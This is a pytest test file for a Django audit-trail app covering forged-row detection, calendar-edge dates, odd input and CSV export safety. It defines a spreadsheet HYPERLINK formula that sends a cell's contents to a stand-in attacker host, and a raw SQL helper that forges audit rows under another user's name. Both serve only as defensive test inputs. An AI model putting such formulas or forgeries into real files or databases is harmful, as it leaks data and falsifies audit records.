"""What the review found: a row slipped in below #1, the calendar's edges, odd input, spreadsheet
formulas in the reports, the local day of a request, a checkpoint file with odd lines."""

import csv
import datetime as dt
import io
import json

import pytest
from django.core.management import CommandError, call_command
from django.db import DatabaseError, connection, transaction
from django.utils import timezone

from audit import chain, reports
from audit.models import AuditEvent
from audit.services import record, run_verification, verify_trail
from tests.asked_here import asked
from tests.factories import make_chat_event

Action = AuditEvent.Action
FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"click")'


def _events(n: int) -> None:
    for i in range(n):
        record(action=Action.LOGIN, actor_label=f"user {i}")


def _forge(sequence: int) -> None:
    """Insert a ``chat.request`` in someone else's name straight into the table."""
    with connection.cursor() as cursor:
        cursor.execute(
            "INSERT INTO audit_auditevent (sequence, occurred_at, actor_label, request_id, action,"
            " outcome, target_type, target_id, target_repr, category, backend, details, message,"
            " prev_hash, hash) VALUES (%s, CURRENT_TIMESTAMP, 'mallory', '', 'chat.request',"
            " 'success', '', '', '', 'Confidential', 'OpenAI', '{}', '', %s, %s)",
            [sequence, chain.GENESIS_HASH, "f" * 64],
        )


@pytest.fixture
def unguarded(db):
    """The table as someone who may alter it sees it: PostgreSQL's CHECK on the sequence
    dropped (rolled back with the test), so verification alone must catch what follows."""
    if connection.vendor == "postgresql":
        with connection.cursor() as cursor:
            cursor.execute(
                "ALTER TABLE audit_auditevent DROP CONSTRAINT audit_auditevent_sequence_positive"
            )


# --- a row below #1 ---------------------------------------------------------------------------


@pytest.mark.parametrize("sequence", [0, -1])
def test_verification_catches_an_event_inserted_below_the_first(unguarded, sequence):
    _events(3)
    _forge(sequence)
    report, problems = verify_trail()
    assert report.first_break == chain.ChainBreak(sequence, "expected #1")
    with pytest.raises(CommandError, match=f"broken at event #{sequence}"):
        call_command("audit_verify")


def test_the_exports_hold_an_event_inserted_below_the_first(unguarded, client, reader):
    _events(2)
    _forge(-1)
    client.force_login(reader)
    response = client.get(asked(client, "/audit/export/jsonl/"))
    lines = b"".join(response.streaming_content).decode().splitlines()
    sequences = [json.loads(line)["sequence"] for line in lines]
    assert sequences[:3] == [-1, 1, 2]  # as the auditor's list shows it, not skipped


def test_the_list_shows_and_links_an_event_inserted_below_the_first(unguarded, client, reader):
    _events(2)
    _forge(-1)
    run_verification()
    client.force_login(reader)
    page = client.get("/audit/").content.decode()
    assert '<a href="/audit/events/-1/">first bad event #-1</a>' in page
    assert "mallory" in client.get("/audit/events/-1/").content.decode()


@pytest.mark.skipif("connection.vendor != 'postgresql'")
@pytest.mark.parametrize("sequence", [0, -1])
def test_the_database_refuses_an_event_numbered_below_one(db, sequence):
    _events(1)
    with pytest.raises(DatabaseError, match="audit_auditevent_sequence_positive"):
        with transaction.atomic():
            _forge(sequence)
    assert AuditEvent.objects.count() == 1


def test_audit_verify_names_a_checkpoint_line_that_is_not_an_object(db, tmp_path):
    _events(1)
    kept = tmp_path / "checkpoints.jsonl"
    kept.write_text("\n[1, 2]\n")  # valid JSON, not a checkpoint
    with pytest.raises(CommandError, match=r"checkpoints.jsonl: Line 2 is not a checkpoint"):
        call_command("audit_verify", "--checkpoints", str(kept))


# --- the calendar's edges and odd input --------------------------------------------------------


@pytest.fixture
def auditor(client, reader):
    client.raise_request_exception = False
    client.force_login(reader)
    record(action=Action.LOGIN, actor_label="someone")
    return client


@pytest.mark.parametrize(
    "url",
    [
        "/audit/?until=9999-12-31",
        "/audit/?since=0001-01-01&until=9999-12-31",
        "/api/audit/events/?until=9999-12-31",
    ],
)
def test_a_list_to_the_calendars_last_day_holds_everything(auditor, url):
    response = auditor.get(url)
    assert response.status_code == 200
    assert "someone" in response.content.decode()


def test_an_export_to_the_calendars_last_day_holds_everything(auditor):
    response = auditor.get(asked(auditor, "/audit/export/csv/?until=9999-12-31"))
    assert response.status_code == 200
    assert "someone" in b"".join(response.streaming_content).decode()


@pytest.mark.parametrize("zone", ["Pacific/Auckland", "UTC", "America/Los_Angeles"])
def test_a_period_may_reach_either_edge_of_the_calendar(db, settings, zone):
    settings.TIME_ZONE = zone
    _events(2)
    events = AuditEvent.objects.all()
    assert events.between(dt.date.min, dt.date.max).count() == 2
    assert events.between(dt.date.min, dt.date.min).count() == 0
    assert events.between(dt.date.max, dt.date.max).count() == 0


@pytest.mark.parametrize(
    "url",
    [
        "/audit/dashboard/?from=9999-12-01&to=9999-12-31",
        "/audit/report/?from=9999-12-01&to=9999-12-31",
        "/audit/dashboard/?to=0001-01-01",  # the default start would be before year 1
        "/audit/report/?to=0001-01-02",
    ],
)
def test_a_period_at_the_calendars_edge_is_an_empty_page(auditor, url):
    response = auditor.get(url)
    assert response.status_code == 200
    assert response.context["summary"].requests == 0


def test_a_chart_at_the_calendars_edge_is_drawn(auditor):
    response = auditor.get("/audit/charts/decisions.svg?from=9999-12-01&to=9999-12-31")
    assert response.status_code == 200 and response["Content-Type"] == "image/svg+xml"


def test_a_page_cursor_that_is_a_digit_but_no_number_is_ignored(auditor):
    response = auditor.get("/audit/?before=%C2%B2")  # "²": isdigit() is true, int() refuses it
    assert response.status_code == 200
    assert "someone" in response.content.decode()


def test_an_export_refused_for_its_filters_says_why_in_plain_text(auditor):
    response = auditor.get(asked(auditor, "/audit/export/csv/?action=<b>x</b>"))
    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert "Action: Select a valid choice. <b>x</b> is not one" in response.content.decode()


def test_an_export_refused_for_its_dates_names_no_internal_key(auditor):
    response = auditor.get(asked(auditor, "/audit/export/csv/?since=2026-02-01&until=2026-01-01"))
    assert response.status_code == 400
    text = response.content.decode()
    assert text.startswith("Nothing exported: ") and "__all__" not in text


# --- the compliance report ---------------------------------------------------------------------


def test_the_compliance_report_csv_defuses_formulas(client, reader):
    make_chat_event(category=FORMULA, backend="@SUM(1+1)", number=3, hosting="external_api")
    client.force_login(reader)
    response = client.get(asked(client, "/audit/report/?format=csv"))
    assert response.status_code == 200
    cells = [
        cell
        for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
        for cell in row
    ]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
    assert f"'{FORMULA} → @SUM(1+1) (external_api, eu)" in cells  # the routing key, defused
    assert f"'{FORMULA} → @SUM(1+1)" in cells  # the off-premise exception


def test_requests_are_counted_on_the_local_day_they_happened(db, settings):
    event = make_chat_event(category="Internal")
    # PostgreSQL stamps the time itself: choose a zone whose date differs from UTC's then.
    settings.TIME_ZONE = "Etc/GMT+12" if event.occurred_at.hour < 12 else "Etc/GMT-14"
    day = timezone.localtime(event.occurred_at).date()
    assert day != event.occurred_at.astimezone(dt.UTC).date()
    summary = reports.summarise(reports.Period(day, day))
    assert summary.requests == 1
    assert dict(summary.per_day_by_category) == {day: {"Internal": 1}}
